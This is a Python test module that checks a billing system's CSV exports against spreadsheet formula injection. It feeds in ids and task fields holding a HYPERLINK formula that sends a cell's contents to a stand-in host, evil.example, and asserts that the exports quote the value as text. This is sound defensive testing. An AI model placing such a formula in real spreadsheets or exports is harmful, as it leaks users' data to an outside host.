"""The CSV exports neutralize cells a spreadsheet would run as a formula
(DESIGN.md "Trust between the parties"), end to end: hostile ids, task
types and task refs leave the calls and outcomes lists as text, negative
amounts of an adjustment leave the statements list as numbers. The cell rule
itself is tested in tests/core/test_csv_export.py."""

import csv
import io
from datetime import UTC, datetime

import pytest

from billing.settlement import contract_settle
from ledger import services
from ledger.models import OutcomeStatus
from ledger.rollups import rollups_refresh
from tests.billing.test_statement_html import calls_ingest, november, outcomes_ingest
from tests.conftest import client_for
from tests.factories import api_key_create

__all__ = ["november"]  # the contract of test_statement_html, with November settled

CONTRACT = "/api/v1/contracts/acme-agent"
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def hostile(november):
    """A call and an outcome whose external id, task type and task ref are
    formulas (the outcome's task_ref is its external id)."""
    calls_ingest(november, [(LINK, "2026-11-04T09:00:00Z", "gpt-4o-mini", LINK, "0.001")])
    outcomes_ingest(november, [(LINK, "2026-11-04T18:00:00Z", "task_completed", LINK, "1")])
    return client_for(api_key_create(organization=november.customer, role="customer"))


def test_a_formula_in_a_calls_external_id_and_task_type_leaves_as_text(hostile):
    rows = csv_rows(hostile.get(f"{CONTRACT}/calls?format=csv"))

    row = next(row for row in rows if row["external_id"].endswith(LINK))
    assert (row["external_id"], row["task_type"]) == ("'" + LINK, "'" + LINK)
    assert row["cost_usd"] == "0.0010000000"


def test_a_formula_in_an_outcomes_external_id_task_type_and_task_ref_leaves_as_text(hostile):
    rows = csv_rows(hostile.get(f"{CONTRACT}/outcomes?format=csv"))

    row = next(row for row in rows if row["external_id"].endswith(LINK))
    assert (row["external_id"], row["task_type"], row["task_ref"]) == ("'" + LINK,) * 3
    assert row["value"] == "40.0000000000"


def test_the_json_keeps_the_text_as_it_was_stored(hostile):
    calls = hostile.get(f"{CONTRACT}/calls", {"task_type": LINK}).json()["results"]

    assert [(c["external_id"], c["task_type"]) for c in calls] == [(LINK, LINK)]


def test_negative_amounts_of_an_adjustment_stay_plain_numbers_in_the_statements_csv(november):
    """Rejecting November's o1 after settlement: the adjustment takes back its
    fee (0.99) and value (40)."""
    for status in (OutcomeStatus.DISPUTED, OutcomeStatus.REJECTED):
        services.outcome_status_change(
            contract=november, external_id="o1", to_status=status, actor="t", reason="r"
        )
    rollups_refresh()
    contract_settle(contract_id=november.id, as_of=datetime(2026, 12, 11, tzinfo=UTC))
    client = client_for(api_key_create(organization=november.customer, role="customer"))

    rows = csv_rows(client.get(f"{CONTRACT}/statements?format=csv"))

    assert [(r["number"], r["outcome_fees"], r["value"]) for r in rows] == [
        ("1", "2.97", "345.00"),
        ("2", "-0.99", "-40.00"),
    ]
